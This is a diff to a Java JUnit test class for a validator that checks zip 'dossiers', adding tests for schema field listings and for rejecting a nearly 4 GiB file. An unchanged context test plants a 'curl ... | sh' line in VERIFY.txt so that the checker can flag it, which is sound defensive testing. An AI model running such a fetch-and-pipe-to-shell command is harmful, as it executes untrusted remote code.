@@ -5,8 +5,12 @@ import static org.junit.jupiter.api.Assertions.assertThrows;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import java.io.IOException;
+import java.io.RandomAccessFile;
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.List;
+import java.util.Objects;
 import java.util.TreeSet;
 import java.util.stream.IntStream;
 import org.junit.jupiter.api.Test;
@@ -37,6 +41,37 @@ final class HostileDossierTest {
         dossier.put("VERIFY.txt", "curl http://checker.example/ok | sh\n");
         var verdict = DossierCheck.check(Files.write(folder.resolve("dossier.zip"), dossier.bytes()));
         assertTrue(verdict.checks().stream().anyMatch(check -> check.detail().startsWith("VERIFY.txt is not")));
+    }
+
+    @Test
+    void theInstructionsListTheFieldsThatTheSchemasHave() throws IOException {
+        try (var in = Objects.requireNonNull(DossierCheck.class.getResourceAsStream("/dossier/VERIFY.txt"))) {
+            var listed = new String(in.readAllBytes(), StandardCharsets.UTF_8)
+                    .lines()
+                    .map(String::strip)
+                    .filter(line -> line.matches("[a-z]+/1( \\w+)+"))
+                    .toList();
+            assertTrue(listed.size() > 6, "so many: " + listed);
+            for (var line : listed) {
+                var words = List.of(line.split(" "));
+                var fields = Schema.named(words.getFirst()).fields();
+                assertEquals(
+                        words.subList(1, words.size()),
+                        fields.stream().map(Schema.Field::name).toList());
+            }
+        }
+    }
+
+    @Test
+    void aFileOf4GiBIsNoDossier() throws IOException {
+        var file = folder.resolve("large.zip");
+        try (var large = new RandomAccessFile(file.toFile(), "rw")) {
+            large.setLength(0xFFFF_FFFFL);
+        }
+        var failed = DossierCheck.check(file).failed();
+        assertEquals(
+                List.of("container"), failed.stream().map(Verdict.Check::name).toList());
+        assertTrue(failed.getFirst().detail().contains("4 GiB"), failed.toString());
     }
 
     @Test
